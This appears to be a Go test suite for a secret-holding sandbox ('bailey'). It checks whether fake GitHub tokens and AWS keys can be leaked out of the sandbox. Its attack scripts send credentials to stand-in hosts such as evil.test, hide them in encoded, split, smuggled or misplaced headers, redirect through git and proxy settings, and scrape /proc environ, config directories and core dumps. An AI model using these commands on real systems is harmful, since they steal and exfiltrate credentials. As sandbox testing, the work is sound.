//go:build linux

package escape

import (
	"fmt"
	"regexp"
	"strings"
	"testing"
)

// realToken looks like GitHub's; nobody's account has it.
const realToken = "ghp_REAL0REAL0REAL0REAL0REAL0REAL0REAL0R"

func credentialCases() []attack {
	var all []attack
	for _, a := range credentialAttacks() {
		all = append(all, a.attack())
	}
	return append(all, attack{id: "secret-rotated-and-taken-away", group: "credentials", own: rotated}, attack{id: "signed-for-another-service", group: "credentials", own: signed})
}

// keep keeps value for the project's sandbox only.
func (w *world) keep(t *testing.T, p *project, value string, args ...string) {
	t.Helper()
	out := w.outside(t, p, fmt.Sprintf("printf %%s %s | %s secret set --source age --sandbox %s %s && echo KEPT", value, w.bailey, p.box, strings.Join(args, " ")))
	if !strings.Contains(out, "KEPT") {
		t.Fatalf("bailey secret set: %s", out)
	}
}

// credentialAttacks try to learn a secret that is bound to api.allowed.test, or to send it, or what stands for it,
// where it does not belong. cdn.allowed.test is allowed, and has no secret.
func credentialAttacks() []netAttack {
	const bearer = `-H "Authorization: Bearer $GH_TOKEN"`
	const works = "$GET " + bearer + " https://api.allowed.test/keep/ | grep -q ghp_ && echo WORKS"
	// Whoever else sees anything that looks like it, and everybody who sees the secret outside of its place.
	const elsewhere = `^token \S+ to (http:|https://(cdn|CDN|evil|api\.allowed\.test\.))`
	const misplaced = `^token ghp_REAL\S+ to \S+ in ([^A]|Authorization-)`
	keeps := []string{"--service", "github", "--host", "api.allowed.test", "--as", "bearer", "--as", "basic", "github"}
	attacks := []netAttack{
		{id: "placeholder-to-the-wrong-host", won: elsewhere,
			script: each("$GET "+bearer+" https://$X/keep/; $GET --http2 "+bearer+" https://$X/keep/; $GET -u x:$GH_TOKEN https://$X/keep/; $GET \"https://$X/keep/?t=$GH_TOKEN\"; $GET -d $GH_TOKEN https://$X/keep/",
				"evil.test", "cdn.allowed.test", "api.allowed.test.evil.test", "CDN.allowed.test", "cdn.allowed.test.")},
		{id: "secret-in-the-clear", won: elsewhere,
			script: both("api.allowed.test", `GET http://api.allowed.test/keep/ HTTP/1.1\r\nHost: api.allowed.test\r\nAuthorization: Bearer '"$GH_TOKEN"'\r\nConnection: close\r\n\r\n`,
				`GET https://cdn.allowed.test/keep/ HTTP/1.1\r\nHost: cdn.allowed.test\r\nAuthorization: Bearer '"$GH_TOKEN"'\r\nConnection: close\r\n\r\n`) +
				"$GET " + bearer + " http://api.allowed.test/keep/; $GET " + bearer + " -H 'Host: api.allowed.test' http://cdn.allowed.test/keep/; $GET " + bearer + " -H 'Host: api.allowed.test' https://cdn.allowed.test/keep/; " +
				"$GET " + bearer + " -x http://bailey.internal:3128 http://api.allowed.test/keep/; $GET " + bearer + " --connect-to api.allowed.test:443:cdn.allowed.test:443 https://api.allowed.test/keep/"},
		{id: "secret-in-another-place", won: misplaced,
			script: `for h in X-Data User-Agent Cookie Referer Proxy-Authorization X-Api-Key Authorization-2; do $GET -H "$h: $GH_TOKEN" https://api.allowed.test/keep/; $GET -H "$h: Bearer $GH_TOKEN" https://api.allowed.test/keep/; done
$GET https://api.allowed.test/keep/$GH_TOKEN; $GET "https://api.allowed.test/keep/?key=$GH_TOKEN"; $GET -d "k=$GH_TOKEN" https://api.allowed.test/keep/; $GET -F "k=$GH_TOKEN" https://api.allowed.test/keep/; $GET -H 'Content-Type: application/json' -d "{\"k\":\"$GH_TOKEN\"}" https://api.allowed.test/keep/
$GET -H "Authorization: Bearer $GH_TOKEN" -H "Authorization: Bearer x" https://api.allowed.test/keep/; $GET -H "Authorization: Bearer $GH_TOKEN" -H "X-Copy: $GH_TOKEN" https://api.allowed.test/keep/
` + both("api.allowed.test", `GET /keep/ HTTP/1.1\r\nHost: api.allowed.test\r\nX: a\r\n Authorization: Bearer '"$GH_TOKEN"'\r\nConnection: close\r\n\r\n`,
				`GET /keep/ HTTP/1.1\r\nHost: api.allowed.test\r\nAuthorization\t: Bearer '"$GH_TOKEN"'\r\nConnection: close\r\n\r\n`,
				`POST /keep/ HTTP/1.1\r\nHost: api.allowed.test\r\nTransfer-Encoding: chunked\r\nTrailer: X-Late\r\nConnection: close\r\n\r\n1\r\na\r\n0\r\nX-Late: '"$GH_TOKEN"'\r\n\r\n`)},
		{id: "placeholder-encoded-or-split", won: elsewhere,
			script: `to=https://cdn.allowed.test/keep/
hex=$(printf %s "$GH_TOKEN" | od -An -v -tx1 | tr -d ' \n')
$GET -u "x:$GH_TOKEN" $to; $GET -u "$GH_TOKEN:" $to; $GET -H "X: $(printf %s "$GH_TOKEN" | base64 -w0)" $to; $GET -H "X: $(printf 'a%s' "$GH_TOKEN" | base64 -w0)" $to; $GET -H "X: $(printf 'ab%s' "$GH_TOKEN" | base64 -w0)" $to
percent=$(printf %s "$hex" | sed 's/../%&/g') json=$(printf %s "$hex" | sed 's/../\\u00&/g')
$GET "$to?k=$percent"; $GET -d "k=$percent" $to; $GET -H 'Content-Type: application/json' -d "{\"k\":\"$json\"}" $to; $GET -H "X: $percent" $to
printf '{"k":"%s"}' "$GH_TOKEN" | gzip -c > /tmp/body.gz; $GET -H 'Content-Encoding: gzip' --data-binary @/tmp/body.gz $to; $GET --data-binary @/tmp/body.gz $to; rm -f /tmp/body.gz
first=$(printf %s "$GH_TOKEN" | cut -c1-20) last=$(printf %s "$GH_TOKEN" | cut -c21-)
$PROBE send tls:cdn.allowed.test cdn.allowed.test:443 'POST /keep/ HTTP/1.1\r\nHost: cdn.allowed.test\r\nContent-Length: 40\r\nConnection: close\r\n\r\n' "$first" "$last"
$PROBE send tls:cdn.allowed.test cdn.allowed.test:443 'POST /keep/ HTTP/1.1\r\nHost: cdn.allowed.test\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n' "14\r\n$first\r\n" "14\r\n$last\r\n" '0\r\n\r\n'
{ head -c 20000 /dev/zero | tr '\0' x; printf %s "$GH_TOKEN"; } | $GET --http2 --data-binary @- $to`},
		{id: "answers-that-echo-the-secret", won: "^$", says: `REAL0REAL0|UkVBTDBSRUFMM|JFQUwwUkVBTD|SRUFMMFJFQUww`,
			script: `for p in "" header split gzip base64 escaped trailer; do $GET -i ` + bearer + ` https://api.allowed.test/keep/$p; $GET -i --http2 --compressed ` + bearer + ` https://api.allowed.test/keep/$p; $GET -i -u "x:$GH_TOKEN" https://api.allowed.test/keep/$p; done; $GET -i -X TRACE ` + bearer + ` https://api.allowed.test/keep/`},
		{id: "address-moved-by-the-project", won: elsewhere,
			script: `mkdir -p moved && cd moved && git init -q . && git config remote.origin.url https://cdn.allowed.test/keep/lab.git && git config url.https://cdn.allowed.test/.insteadOf https://api.allowed.test/
export GIT_TERMINAL_PROMPT=0 GIT_SSL_NO_VERIFY=1; printf 'https://x:%s@cdn.allowed.test\n' "$GH_TOKEN" > .store
for to in origin https://api.allowed.test/keep/lab.git https://evil.test/keep/lab.git; do git -c credential.helper="store --file=$PWD/.store" ls-remote $to; git -c http.extraheader="Authorization: Bearer $GH_TOKEN" ls-remote $to; done
export HTTPS_PROXY=http://evil.test:80 https_proxy=http://evil.test:80; curl -sSk -m5 ` + bearer + ` https://api.allowed.test/keep/; curl -sSk -m5 ` + bearer + ` http://evil.test/keep/; unset HTTPS_PROXY https_proxy
BASE_URL=https://cdn.allowed.test; $GET ` + bearer + ` $BASE_URL/keep/; BASE_URL=http://evil.test; $GET ` + bearer + ` $BASE_URL/keep/`},
		{id: "somebody-elses-credential", won: `^token ghp_ATTACK`, script: `other=ghp_ATTACK0ATTACK0ATTACK0ATTACK0ATTACK0A
$GET -H "Authorization: Bearer $other" https://api.allowed.test/keep/; $GET -H "authorization: bearer  $other" https://api.allowed.test/keep/; $GET -u x:$other https://api.allowed.test/keep/; $GET --http2 -u $other: https://api.allowed.test/keep/`},
		{id: "secret-at-rest-inside", won: "^$", says: "WON",
			script: `what=$(printf 'ghp_%s' REAL0REAL0); $GET ` + bearer + ` https://api.allowed.test/keep/ > /dev/null
cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep -q "$what" && echo WON-environ
grep -rls "$what" /etc /run /tmp /var/tmp /var/log /dev/shm "$HOME/.local" "$HOME/.config" "$HOME/.cache" "$HOME/.claude" . 2>/dev/null | sed "s/^/WON-/"
printf 'protocol=https\nhost=api.allowed.test\n\n' | GIT_TERMINAL_PROMPT=0 git credential fill 2>/dev/null | grep -q "$what" && echo WON-git
set +f; ulimit -c unlimited; sh -c 'kill -SEGV $$' 2>/dev/null; grep -qs "$what" core* && echo WON-core; rm -f core*`},
	}
	for i := range attacks {
		attacks[i].keeps, attacks[i].flags, attacks[i].works = keeps, allowing("*.allowed.test"), works
	}
	return attacks
}

// rotated changes the secret while the sandbox runs, then takes it away, and sends the old one from inside, as if it had
// leaked. The control sends the old one where nobody looks.
func rotated(tr *trial) verdict {
	const second = "ghp_SECOND0SECOND0SECOND0SECOND0SECOND0S"
	t, n := tr.t, tr.w.internet()
	w := n.near(tr.w)
	p := w.newProject(t, tr.id, "")
	v := verdict{control: "held", ran: true}
	const use = `curl -sSk -m6 -H "Authorization: Bearer $GH_TOKEN" https://api.allowed.test/keep/`
	leak := "curl -sSk -m6 -d " + realToken + " https://cdn.allowed.test/keep/; curl -sSk -m6 -H 'Authorization: Bearer " + realToken + "' https://api.allowed.test/keep/"
	n.seen(w, p)
	w.jail(t, p, nil, leak)
	if first(regexp.MustCompile("^token "+realToken), n.seen(w, p)) != "" {
		v.control = "lost"
	}
	keeps := []string{"--service", "github", "--host", "api.allowed.test", "--as", "bearer", "github"}
	w.keep(t, p, realToken, keeps...)
	w.start(t, p, allowing("*.allowed.test")...)
	defer w.remove(t, p)
	n.seen(w, p)
	sends := func(what, script, want, never string) {
		out := w.inside(t, p, script)
		events := n.seen(w, p)
		t.Logf("%s: inside it says %s, the world has seen\n%s", what, out, strings.Join(events, "\n"))
		if want != "" && first(regexp.MustCompile(want), events) == "" {
			v.broken = what + ": it does not get there; "
		}
		if got := first(regexp.MustCompile(never), events); got != "" {
			v.won, v.reason = true, what+": "+got
		}
	}
	sends("before", use, "^token "+realToken, "^token "+second)
	w.keep(t, p, second, keeps...)
	sends("after it was changed", use, "^token "+second, "^token "+realToken)
	sends("the old one", leak, "", "^token ")
	w.must(t, p, "secret", "rm", "github")
	sends("after it was taken away", use, "", "^token ")
	if log := w.must(t, p, "policy", "log", p.box); !strings.Contains(log, "  alarm  ") {
		v.broken += "there is no alarm in the record"
	}
	return v
}

// signed has a key of Amazon's for one service of one region, at api.allowed.test, and signs for others, sends what was
// signed elsewhere, and changes it afterwards. The world sees whose key a request names: the real one is in what bailey has
// signed anew.
func signed(tr *trial) verdict {
	const id, key = "AKIAREALREALREALREAL", "real/Secret+Access+Key+Of+The+Test+00000"
	t, n := tr.t, tr.w.internet()
	w := n.near(tr.w)
	p := w.newProject(t, tr.id, "")
	v := verdict{control: "held", ran: true}
	const sign = `sign() { curl -sSk -m6 --aws-sigv4 "aws:amz:$1:$2" -u "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" -d "$4" -v "$3" 2>&1; }
`
	const attacks = sign + `sign eu-west-1 s3 https://api.allowed.test/keep/ a; sign us-east-1 ec2 https://api.allowed.test/keep/ a; sign us-east-1 s3 https://cdn.allowed.test/keep/ a; sign us-east-1 s3 http://api.allowed.test/keep/ a
curl -sSk -m6 -u "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" https://api.allowed.test/keep/; curl -sSk -m6 "https://api.allowed.test/keep/?AWSAccessKeyId=$AWS_ACCESS_KEY_ID"
`
	n.seen(w, p)
	w.jail(t, p, nil, "export AWS_ACCESS_KEY_ID="+id+" AWS_SECRET_ACCESS_KEY="+key+"\n"+attacks)
	if first(regexp.MustCompile("^token "+id+" to https://cdn"), n.seen(w, p)) != "" {
		v.control = "lost"
	}
	w.keep(t, p, id+":"+key, "--service", "aws", "--host", "api.allowed.test", "--as", "sigv4:us-east-1/s3", "aws")
	w.start(t, p, allowing("*.allowed.test")...)
	defer func() { w.remove(t, p); w.must(t, p, "secret", "rm", "aws") }()
	n.seen(w, p)
	out := w.inside(t, p, sign+"sign us-east-1 s3 https://api.allowed.test/keep/ a")
	events := n.seen(w, p)
	t.Logf("inside it says %s, the world has seen\n%s", out, strings.Join(events, "\n"))
	if first(regexp.MustCompile("^token "+id+" to https://api.allowed.test in Authorization"), events) == "" {
		v.broken = "what is signed as it should be does not get there"
	}
	// The head of a good request, with another body.
	const changed = sign + `sign us-east-1 s3 https://api.allowed.test/keep/ a > said; grep -ai '^> \(authorization\|x-amz\)' said | tr -d '\r' | sed 's/^> //' > heads; wc -l < heads
set --; while read -r h; do set -- "$@" -H "$h"; done < heads; curl -sSk -m6 "$@" -d b https://api.allowed.test/keep/changed`
	out = w.inside(t, p, attacks)
	events = n.seen(w, p)
	out += w.inside(t, p, changed)
	for _, e := range append(events, n.seen(w, p)...) {
		if regexp.MustCompile("^request .*/keep/changed").MatchString(e) || !strings.Contains(e, "to https://api.allowed.test in Authorization") && regexp.MustCompile("^token AKIA").MatchString(e) {
			v.won, v.reason = true, "the world has seen: "+e
		}
	}
	for _, e := range events { // of attacks alone, in which nothing is as it should be
		if strings.HasPrefix(e, "token AKIA") {
			v.won, v.reason = true, "the world has seen: "+e
		}
	}
	t.Logf("inside it says %s, the world has seen\n%s", out, strings.Join(events, "\n"))
	return v
}
